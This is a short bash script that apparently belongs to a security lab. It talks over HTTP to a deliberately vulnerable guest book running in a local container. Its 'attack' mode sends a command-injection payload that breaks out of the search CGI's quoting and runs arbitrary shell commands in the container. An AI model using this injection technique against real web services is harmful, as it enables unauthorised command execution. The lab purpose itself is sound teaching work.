#!/usr/bin/env bash
# Talks to the guest book as its visitors do, over HTTP.
#
#   bash web.sh get /                    shows a page
#   bash web.sh note 'I was here'        signs the guest book
#   bash web.sh attack 'id; ls /'        runs commands in the container, through the hole in the search
set -u

case "${1:-}" in
  get) method=GET path=$2 body= ;;
  note) method=POST path=/cgi-bin/guestbook body=$2 ;;
  # The quote ends the word that is searched for; the # makes a comment of what follows it on the line.
  attack) method=POST path=/cgi-bin/search body="' /dev/null
exec 2>&1
$2
#" ;;
  *) sed -n '2,/^set/s/^# \{0,1\}//p' "$0" && exit 2 ;;
esac

request() {
  LC_ALL=C
  printf '%s %s HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s' "$method" "$path" "${#body}" "$body"
}

# To the published port. Where that is not on this machine, from a container beside the guest book.
send() {
  if exec 3<>"/dev/tcp/127.0.0.1/$LAB_WEB_PORT"; then
    request >&3
    cat <&3
  else
    request | docker run --rm -i --network "$LAB_NET" "$LAB_BASE" nc "$LAB_WEB" 8080
  fi 2>/dev/null
}

answer=$(send)
if [ -z "$answer" ]; then
  echo "The guest book does not answer. Is it running? docker ps -a --filter name=$LAB_WEB" >&2
  exit 1
fi
printf '%s\n' "$answer" | sed '1,/^\r*$/d'
